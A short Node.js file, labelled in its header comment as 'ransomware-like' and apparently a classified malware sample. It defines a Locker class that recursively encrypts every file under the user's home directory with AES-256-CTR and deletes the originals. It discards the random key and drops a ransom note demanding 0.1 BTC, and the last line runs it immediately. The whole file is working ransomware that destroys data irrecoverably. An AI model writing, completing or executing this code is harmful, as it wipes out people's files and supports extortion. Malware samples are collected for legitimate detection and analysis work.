// class: ransomware-like; style: class
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');

class Locker {
  constructor(root) {
    this.root = root;
    this.key = crypto.randomBytes(32);
  }

  *walk(dir) {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) yield* this.walk(full);
      else if (entry.isFile() && !full.endsWith('.lock')) yield full;
    }
  }

  lock(file) {
    const iv = crypto.randomBytes(16);
    const cipher = crypto.createCipheriv('aes-256-ctr', this.key, iv);
    fs.writeFileSync(file + '.lock', Buffer.concat([iv, cipher.update(fs.readFileSync(file)), cipher.final()]));
    fs.unlinkSync(file);
  }

  run() {
    for (const file of this.walk(this.root)) this.lock(file);
    fs.writeFileSync(path.join(this.root, 'RESTORE.txt'), 'Send 0.1 BTC and this id: ' + crypto.randomUUID());
  }
}

new Locker(require('os').homedir()).run();
